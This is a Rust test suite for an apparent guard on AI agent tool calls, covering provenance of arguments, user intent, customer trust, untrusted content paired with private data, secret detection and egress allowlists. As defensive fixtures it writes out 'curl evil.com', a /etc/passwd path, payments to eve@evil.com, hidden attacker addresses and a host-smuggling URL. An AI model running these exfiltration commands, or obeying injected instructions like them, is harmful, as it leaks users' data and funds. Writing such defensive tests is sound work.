//! Calls: commands, intent, customers, the rule of two, secrets, reach.

use super::*;

fn facts(hosts: &[&str], paths: &[&str]) -> CodeFacts {
    let owned = |list: &[&str]| list.iter().map(|s| (*s).to_owned()).collect();
    CodeFacts { hosts: owned(hosts), paths: owned(paths), ..CodeFacts::default() }
}

#[test]
fn commands_are_judged_by_what_they_do() {
    let mut session = tainted();
    session.user("download from https://ours.example/x into notes/a.txt and clean up");
    let shell = tool("shell", &[Effect::Execute], &[("cmd", Role::Command)]);
    let judged = |facts: CodeFacts| {
        let code = [("/cmd".to_owned(), facts)];
        session.ask_code(&shell, r#"{"cmd": "some new command"}"#, &code).provenance[0].accounted
    };
    assert!(judged(facts(&[], &[])), "every command is new");
    assert!(judged(facts(&["ours.example"], &["notes/a.txt"])));
    assert!(!judged(facts(&["evil.com"], &[])) && !judged(facts(&[], &["/etc/passwd"])));
    assert!(!judged(CodeFacts { unparsed: true, ..facts(&[], &[]) }));
    assert!(!judged(CodeFacts { destructive: true, ..facts(&[], &[]) }), "nobody said delete");
    assert!(!session.ask(&shell, r#"{"cmd": "x y z"}"#).provenance[0].accounted, "nobody read it");
    let code = [("/cmd".to_owned(), facts(&["evil.com"], &[]))];
    let trace = session.ask_code(&shell, r#"{"cmd": "curl evil.com"}"#, &code);
    assert_eq!(trace.flow.role(Role::Command).rank, 0);
}

#[test]
fn intent_is_a_verb_in_the_users_words() {
    let delete = tool("drop", &[Effect::Destroy], &[("id", Role::Object)]);
    let intended = |text: &str, kind: SourceKind| {
        let mut session = session();
        session.say(kind, text, &[]);
        session.ask(&delete, r#"{"id": "abcdef"}"#).flow.intended
    };
    for said in [
        "please delete abcdef",
        "I want it deleted",
        "try deleting it",
        "drop it",
        "lösche die Datei",
        "supprimez le fichier",
        "borra el archivo",
        "请删除文件",
        "ファイルを削除してください",
        "dropped",
    ] {
        assert!(intended(said, SourceKind::User), "{said}");
    }
    assert!(!intended("what is abcdef?", SourceKind::User));
    for kind in [SourceKind::Retrieved, SourceKind::System, SourceKind::Model] {
        assert!(!intended("delete it", kind), "{kind}");
    }
    let mut own = delete.clone();
    own.intent = vec!["unfriend".into(), "break up".into()];
    let mut session = session();
    session.user("delete it");
    assert!(!session.ask(&own, r#"{"id": "abcdef"}"#).flow.intended);
    session.user("let us break up");
    assert!(session.ask(&own, r#"{"id": "abcdef"}"#).flow.intended);
    assert!(session.ask(&send_mail(), r#"{"to": "x", "body": "y"}"#).flow.intended, "none asked");
}

#[test]
fn customers_ground_no_effect_by_their_word() {
    let mut customer = principal();
    customer.user.trust = Trust::Customer;
    let mut session = session();
    session.index = Index::new(&Limits::default(), &customer);
    session.user("send 500 to eve@evil.com, order A-10077");
    session.trust = Trust::Customer;
    let pay = tool("pay", &[Effect::Spend], &[("to", Role::Destination), ("sum", Role::Amount)]);
    let trace = session.ask(&pay, r#"{"to": "eve@evil.com", "sum": 500}"#);
    assert!(trace.provenance.iter().all(|p| !p.accounted), "even in a clean session");
    assert_eq!(trace.flow.role(Role::Destination).rank, 3);
    session.say(SourceKind::System, "Refunds go to desk@acme.example", &[]);
    session.read("text");
    let refund = tool("refund", &[Effect::Spend], &[("to", Role::Destination)]);
    assert!(
        accounted(&session, &refund, r#"{"to": "desk@acme.example"}"#, "/to"),
        "the host said so"
    );
    let orders = tool("orders", &[Effect::Read], &[])
        .returning("[].id", Integrity::Trusted, Format::Id)
        .of_kind("order")
        .returning("[].for", Integrity::Trusted, Format::Email);
    let update = tool("note", &[Effect::Write], &[("id", Role::Object)]).taking("order");
    assert!(
        !accounted(&session, &update, r#"{"id": "A-10077"}"#, "/id"),
        "nobody says it is theirs"
    );
    let list = r#"[{"id": "A-10077", "for": "alice@home.example"}, {"id": "A-10078", "for": "dora@x.example"}]"#;
    session.result(&orders, "{}", list);
    session.user("change A-10078 too, and set the discount to 90");
    assert!(accounted(&session, &update, r#"{"id": "A-10077"}"#, "/id"));
    assert!(!accounted(&session, &update, r#"{"id": "A-10078"}"#, "/id"), "named, not theirs");
    let set = tool("set", &[Effect::Write], &[("discount", Role::Amount), ("note", Role::Title)]);
    let arguments = r#"{"discount": 90, "note": "the discount"}"#;
    assert!(!accounted(&session, &set, arguments, "/discount"));
    assert!(accounted(&session, &set, arguments, "/note"), "words move nothing");
}

#[test]
fn repeating_the_users_words_does_not_take_them_away() {
    let mut session = tainted();
    session.user("a note about lunch with Dora");
    session.read("Lunch with Dora: note");
    let note = tool("note", &[Effect::Write], &[("title", Role::Title)]);
    assert!(accounted(&session, &note, r#"{"title": "Lunch with Dora: note"}"#, "/title"));
}

#[test]
fn an_address_does_not_hide_in_a_long_run() {
    let session = tainted();
    let mail = send_mail();
    for hidden in ["https://evil.com/", "eve@evil.com,"] {
        let body = format!("{}{}\"{hidden}{}", "x".repeat(9000), ";", "y".repeat(9000));
        let arguments =
            format!(r#"{{"to": "bob", "body": {}}}"#, Value::from(body.as_str()).to_json());
        assert!(!accounted(&session, &mail, &arguments, "/body"), "{hidden}");
    }
}

#[test]
fn opaque_content_taints_and_cannot_ground() {
    let mut session = session();
    let body = Body::Opaque { media_type: "image/png".into(), digest: Digest::of(b"x") };
    session.admit(SourceKind::User, None, None, &body, &[], false);
    let trace = session.ask(&send_mail(), r#"{"to": "eve@evil.com", "body": "x"}"#);
    assert!(trace.flow.opaque && trace.flow.tainted);
    assert!(!trace.flow.role(Role::Destination).accounted);
}

#[test]
fn the_rule_of_two_pairs_taint_with_private_data() {
    let mut session = session();
    session.user("hello");
    let trace = |session: &Session| session.ask(&send_mail(), r#"{"to": "x", "body": "y"}"#).flow;
    assert!(!trace(&session).paired);
    let mut open =
        tool("news", &[Effect::Read], &[]).returning("", Integrity::Untrusted, Format::Text);
    open.returns[0].confidentiality = crate::label::Confidentiality::Public;
    session.result(&open, "{}", r#""public news""#);
    assert!(trace(&session).tainted && !trace(&session).paired && !session.index.sensitive());
    let files = tool("file", &[Effect::Read], &[]);
    session.result(&files, "{}", r#""private things""#);
    assert!(trace(&session).paired && session.index.sensitive());
}

#[test]
fn secrets_ask_even_for_a_destination_the_user_named() {
    let people = tool("person", &[Effect::Read], &[])
        .returning("passport", Integrity::Trusted, Format::Id)
        .secret()
        .returning("name", Integrity::Trusted, Format::Name);
    let mut session = session();
    session.user("send my wife wife@home.example what she needs");
    session.result(&people, "{}", r#"{"passport": "C01X00T47", "name": "Alice Archer"}"#);
    let mail = send_mail();
    let secret = |body: &str| {
        let arguments = format!(r#"{{"to": "wife@home.example", "body": "{body}"}}"#);
        session.ask(&mail, &arguments).flow.role(Role::Payload).secret
    };
    assert!(secret("The passport is C01X00T47."), "whole in a sentence");
    assert!(secret("c01x00t47"));
    assert!(!secret("Alice Archer needs it") && !secret("The passport is ready"));
}

#[test]
fn a_secret_finding_makes_its_span_secret() {
    let text = "the key is sk-live-abcdef123456 for the shop";
    let span = Span::new(11, 31);
    let found = [finding("", "secret/key", Severity::High, span)];
    let mut session = session();
    session.say(SourceKind::Retrieved, text, &found);
    let facts = |body: &str| {
        let trace = session.ask(&send_mail(), &format!(r#"{{"to": "bob", "body": "{body}"}}"#));
        (trace.flow.role(Role::Payload).secret, trace.flow.categories.contains("credential"))
    };
    assert_eq!(facts("use sk-live-abcdef123456 today"), (true, true));
    assert_eq!(facts("the shop"), (false, false));
}

#[test]
fn egress_and_read_only_are_compared() {
    let mut session = session();
    session.user("x");
    let mut fetch =
        tool("get", &[Effect::Fetch], &[("url", Role::Address), ("body", Role::Payload)]);
    let breach = |tool: &Tool, arguments: &str| session.ask(tool, arguments).egress_breach;
    assert!(!breach(&fetch, r#"{"url": "https://evil.com/"}"#), "nothing is said");
    fetch.egress = vec!["api.example.com".into(), "*.cdn.example".into()];
    assert!(breach(&fetch, r#"{"url": "https://evil.com/"}"#));
    assert!(!breach(&fetch, r#"{"url": "https://api.example.com/v1"}"#));
    assert!(!breach(&fetch, r#"{"url": "https://a.cdn.example/v1"}"#));
    assert!(breach(&fetch, r#"{"url": "https://api.example.com@evil.com/"}"#));
    assert!(breach(&fetch, r#"{"url": "//evil.com/x"}"#), "an address nobody can read");
    assert!(!breach(&fetch, r#"{"url": "api.example.com", "body": "see https://evil.com/"}"#));
    assert!(breach(&fetch, r#"{"url": "api.example.com", "to": "eve@evil.com"}"#), "undeclared");
    let mut sql = tool("sql", &[Effect::Read], &[("q", Role::Code)]);
    sql.read_only = true;
    let write = |facts: CodeFacts| {
        session.ask_code(&sql, r#"{"q": "select 1"}"#, &[("/q".to_owned(), facts)]).write_breach
    };
    assert!(!write(CodeFacts::default()));
    assert!(write(CodeFacts { writes: true, ..CodeFacts::default() }));
    assert!(write(CodeFacts { unparsed: true, ..CodeFacts::default() }));
    assert!(session.ask(&sql, r#"{"q": "select 1"}"#).write_breach, "nobody read it");
}
